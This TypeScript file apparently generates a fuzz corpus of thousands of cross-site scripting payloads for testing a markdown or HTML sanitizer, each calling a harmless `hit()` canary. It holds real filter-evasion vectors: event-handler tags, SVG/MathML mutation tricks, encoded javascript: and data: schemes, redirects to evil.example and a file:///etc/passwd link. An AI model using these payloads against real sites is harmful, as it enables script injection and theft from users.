// Thousands of ways in which a text could try to run something: every one calls `hit()` if it does.

const tags = [
  ...[
    'a',
    'audio',
    'body',
    'button',
    'details',
    'div',
    'embed',
    'form',
    'frameset',
    'iframe',
    'img',
    'input',
  ],
  ...[
    'isindex',
    'keygen',
    'marquee',
    'math',
    'object',
    'select',
    'svg',
    'table',
    'textarea',
    'video',
    'xss',
    'link',
  ],
];
const events = [
  ...[
    'onload',
    'onerror',
    'onclick',
    'onfocus',
    'onblur',
    'onmouseover',
    'onmouseenter',
    'onpointerover',
    'ontoggle',
  ],
  ...[
    'onstart',
    'onbegin',
    'onanimationstart',
    'ontransitionend',
    'onwheel',
    'onscroll',
    'onpageshow',
    'onbeforetoggle',
  ],
  ...[
    'onloadstart',
    'oncanplay',
    'oninput',
    'oncopy',
    'onkeydown',
    'onhashchange',
    'onunhandledrejection',
    'onmessage',
  ],
];
/** How an element is written, so that it is one to a browser and none to a filter. */
const forms = [
  (tag: string, event: string) => `<${tag} ${event}=hit()>`,
  (tag: string, event: string) => `<${tag}/${event}="hit()"/src=x autofocus tabindex=1 open>`,
  (tag: string, event: string) => `<${tag}\t${event}\n=\n'hit()' src>`,
  (tag: string, event: string) => `"><${tag.toUpperCase()} ${event}=hit()//`,
  (tag: string, event: string) => `'><${mixed(tag)} x ${mixed(event)} = hit&lpar;&rpar;>`,
  (tag: string, event: string) => `" ${event}="hit()" x="<${tag}`,
  (tag: string, event: string) => `<<${tag}><${tag} ${event}=&#104;it()>`,
  (tag: string, event: string) => `[<${tag} ${event}=hit()>](https://a.example/"${event}=hit())`,
];

/** What might end what a text stands in. */
const breaks = [
  ...[
    '',
    '">',
    "'>",
    '`>',
    '</p>',
    '</div>',
    '</textarea>',
    '</title>',
    '</style>',
    '</script>',
    '-->',
    ']]>',
  ],
  ...[
    '</bdi></h3>',
    '</a>',
    '\\">',
    '%22%3E',
    '&quot;&gt;',
    '\u0000',
    '<!--',
    '<![CDATA[',
    '{{',
    '*',
    '> ',
    '- ',
  ],
];
const vectors = [
  ...[
    '<script>hit()</script>',
    '<script src=data:,hit()></script>',
    '<script>hit``</script',
    '<script/x>hit()</script>',
  ],
  ...[
    '<svg><script>hit&#40;)</script>',
    '<svg><animate onbegin=hit() attributeName=x dur=1s>',
    '<svg><a xlink:href=javascript:hit()><text y=9>x',
  ],
  ...[
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x">',
  ],
  ...[
    '<svg><set attributeName=onmouseover to=hit()>',
    '<svg><foreignObject><img src=x onerror=hit()>',
    '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
  ],
  ...[
    '<math><mi//xlink:href="javascript:hit()">x',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
  ],
  ...[
    '<iframe src=javascript:hit()>',
    '<iframe srcdoc="<script>parent.hit()</script>">',
    '<iframe srcdoc=&lt;script&gt;parent.hit()&lt;/script&gt;>',
  ],
  ...[
    '<object data=javascript:hit()>',
    '<embed src=javascript:hit()>',
    '<form action=javascript:hit()><button>x',
    '<button form=f formaction=javascript:hit()>x',
  ],
  ...[
    '<isindex action=javascript:hit() type=image>',
    '<base href=javascript:hit()//>',
    '<base href=https://evil.example/>',
    '<link rel=import href=data:,hit()>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=javascript:hit()">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<template><script>hit()</script></template>',
  ],
  ...[
    '<div shadowrootmode=open><template><img src=x onerror=hit()>',
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    '<video><source onerror=hit()>',
  ],
  ...[
    '<details open ontoggle=hit()><summary>x',
    '<dialog open onclose=hit()><form method=dialog><button autofocus>',
    '<input type=image src=x onerror=hit()>',
    '<x contenteditable onblur=hit() autofocus>',
  ],
  ...[
    '<style>@import"javascript:hit()";*{background:url(javascript:hit())}</style>',
    '<p style="x:expression(hit())">',
    '<table background=javascript:hit()>',
    '<?xml-stylesheet href=javascript:hit()?>',
  ],
  ...[
    '<img src=x onerror=hit()>',
    '<img src="x`x" onerror=hit()//">',
    '<image src=x onerror=hit()>',
    '<img srcset=x onerror=hit()>',
    '<svg/onload=hit()>',
    '<body onpageshow=hit()>',
  ],
];
/** How a vector may be written so that something on the way writes it plainly again. */
const spellings = [
  (text: string) => text,
  (text: string) => encodeURIComponent(text),
  (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text: string) => text.replace(/[<>"'()]/g, (sign) => `&#${sign.charCodeAt(0)};`),
  (text: string) => text.replace(/[<>]/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  (text: string) =>
    text.replace(/[\x21-\x7e]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)),
];

const schemes = [
  ...[
    'javascript:hit()',
    'JaVaScRiPt:hit()',
    'java\tscript:hit()',
    'java\nscript:hit()',
    '\u0001javascript:hit()',
    ' javascript:hit()',
  ],
  ...[
    'javascript&colon;hit()',
    '&#106;avascript:hit()',
    '&#x6a;avascript:hit()',
    'javascript\\:hit()',
    '\\javascript:hit()',
    'javascript:hit()//https://a.example',
  ],
  ...[
    'javascript://a.example/%0ahit()',
    'javascript:%68it()',
    'vbscript:hit()',
    'data:text/html,<script>hit()</script>',
    'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  ],
  ...[
    'data:image/svg+xml,<svg onload=hit()>',
    'blob:https://a.example/x',
    'filesystem:https://a.example/x',
    'view-source:javascript:hit()',
    'jar:javascript:hit()!/',
  ],
  ...[
    'feed:javascript:hit()',
    'livescript:hit()',
    'mocha:hit()',
    'about:blank',
    'file:///etc/passwd',
    '//evil.example',
    '/\\evil.example',
    'https:javascript:hit()',
  ],
  ...[
    'https://a.example/"onmouseover="hit()',
    "https://a.example/'onmouseover='hit()",
    'https://a.example/><script>hit()</script>',
    'https://a.example/#<img src=x onerror=hit()>',
  ],
];
const links = [
  (address: string) => `[x](${address})`,
  (address: string) => `[x](<${address}>)`,
  (address: string) => `[x](${address} "title")`,
  (address: string) => `![x](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[x]: ${address}\n\n[x]`,
  (address: string) => `[![x](${address})](${address})`,
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<a\nhref=${address}>x`,
  (address: string) => `*[x](${address})* **${address}**`,
  (address: string) => `> [x](${address})`,
  (address: string) => `www.a.example/${address}`,
];

export const payloads: readonly string[] = [
  ...new Set([
    ...tags.flatMap((tag) => events.flatMap((event) => forms.map((form) => form(tag, event)))),
    ...breaks.flatMap((end) =>
      vectors.flatMap((vector) => spellings.map((spell) => end + spell(vector))),
    ),
    ...schemes.flatMap((scheme) => links.map((link) => link(scheme))),
  ]),
];

function mixed(name: string): string {
  return [...name].map((letter, place) => (place % 2 ? letter : letter.toUpperCase())).join('');
}
